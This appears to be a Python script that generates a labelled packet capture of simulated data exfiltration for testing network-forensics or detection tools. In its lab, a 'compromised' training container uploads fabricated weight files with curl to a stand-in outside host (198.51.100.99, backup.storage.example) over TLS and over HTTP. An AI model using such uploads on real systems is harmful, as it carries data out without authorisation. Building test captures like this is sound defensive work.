"""Make exfil.pcapng and its ground truth: ``python -m sample_captures.make.exfil [FOLDER]`` (root; about 20 seconds).

A training container fetches its data sets inside, as it should, and then sends far more than it got to one address outside: once
over TLS, once over HTTP in the clear. Only the first 128 bytes of each packet were kept, as on many a DPU mirror, so most of what
was sent is not in the file, but its length is. curl's account says how much went where.
"""

from __future__ import annotations

import sys
import time
from pathlib import Path
from typing import Any

from sample_captures.make import servers
from sample_captures.make.clients import LOG_FORMAT, add_tls, fetch
from sample_captures.make.lab import Lab
from sample_captures.make.recording import Sample, Truth, command_line, record

SNAPLEN = 128
OUTSIDE = "198.51.100.99"
HOSTS = {
    "edge": ("10.40.8.1", f"gateway; {OUTSIDE} is behind it"),
    "store": ("10.40.8.10", "data sets, http on 80"),
    "train-4": ("10.40.8.77", "training container, compromised"),
    "train-5": ("10.40.8.78", "training container, as it should be"),
}
NAME = "backup.storage.example"
FIRST = "osprey weights, part one of nine"
"""the body's first bytes are within the snap length"""
BURIED = "osprey weights, the signature at the end"
SEALED = "osprey weights, sent where nobody can read"
LENGTHS = {"tls": 900_000, "http": 300_000}
NGINX = """
worker_processes 1; daemon off; master_process off; user root; pid {folder}/{host}.pid; error_log {folder}/{host}.err;
events {{ worker_connections 64; }}
http {{
  {log_format} access_log {folder}/{host}.log who; server_tokens off; keepalive_timeout 3; default_type application/octet-stream;
  client_body_temp_path {folder}/b; proxy_temp_path {folder}/p; client_max_body_size 20m;
  fastcgi_temp_path {folder}/f; uwsgi_temp_path {folder}/u; scgi_temp_path {folder}/s;
  ssl_certificate {folder}/web.crt; ssl_certificate_key {folder}/web.key; root {folder}/{host};
  server {{ {listen} dav_methods PUT; }}
}}
"""


def prepare(lab: Lab) -> None:
    """The store inside, and the address outside with its gateway."""
    lab.ip("edge", f"addr add {OUTSIDE}/32 dev lo")
    for host in ("train-4", "train-5"):
        lab.ip(host, f"route add default via {HOSTS['edge'][0]}")
    servers.make_certificate(lab, "edge", NAME)
    places = {"edge": (f"listen {OUTSIDE}:80; listen {OUTSIDE}:443 ssl;", (80, 443)), "store": ("listen 10.40.8.10:80;", (80,))}
    for host, (listen, ports) in places.items():
        (lab.folder / host).mkdir()
        config = NGINX.format(folder=lab.folder, host=host, log_format=LOG_FORMAT, listen=listen)
        servers.run_nginx(lab, host, config, *ports)
    for n in range(3):
        (lab.folder / "store" / f"set{n}.bin").write_bytes(bytes((n + i * i >> 3) & 0xFF for i in range(40_000)))


def loot(lab: Lab, name: str, first: str, last: str, length: int) -> str:
    """A file to carry out; its path."""
    path = lab.folder / name
    filling = bytes((n * n >> 3) & 0xFF for n in range(length - len(first) - len(last)))
    path.write_bytes(first.encode() + filling + last.encode())
    return str(path)


def play(lab: Lab, truth: Truth) -> dict[str, Any]:
    """Ordinary fetching, then what leaves."""
    truth.step("data sets are fetched")
    sets = [f"http://{HOSTS['store'][0]}/set{n}.bin" for n in range(3)]
    for who in ("train-4", "train-5"):
        fetch(lab, truth, who, *sets)
        time.sleep(1)
    truth.step("data leaves")
    named = ("--resolve", f"{NAME}:443:{OUTSIDE}", "--resolve", f"{NAME}:80:{OUTSIDE}")
    for text, clear in ((FIRST, True), (BURIED, False), (SEALED, False)):
        truth.plant(text, "body", clear=clear)
    sealed = loot(lab, "sealed.bin", SEALED, BURIED, LENGTHS["tls"])
    fetch(lab, truth, "train-4", f"https://{NAME}/a.bin", options=(*named, "-T", sealed))
    time.sleep(1)
    opened = loot(lab, "opened.bin", FIRST, BURIED, LENGTHS["http"])
    wait = ("-H", "Expect: 100-continue")  # so that the body begins with a packet of its own
    fetch(lab, truth, "train-4", f"http://{NAME}/b.bin", options=(*named, *wait, "-T", opened))
    add_tls(truth, lab.text("edge.log"))
    sent = sum(c["sent_bytes"] for c in truth.connections if c["dst"] == OUTSIDE)
    return {"exfiltration": {"source": HOSTS["train-4"][0], "target": OUTSIDE, "sent_bytes": sent}, "snaplen": SNAPLEN}


SAMPLE = Sample("exfil", "bridge of 10.40.8.0/24", 24, HOSTS, ("curl", "nginx", "dumpcap"), play, prepare, SNAPLEN)


def make(folder: Path) -> dict[str, Any]:
    """Both files into ``folder``; returns the ground truth."""
    return record(SAMPLE, folder)


if __name__ == "__main__":
    sys.exit(command_line(__doc__, make))
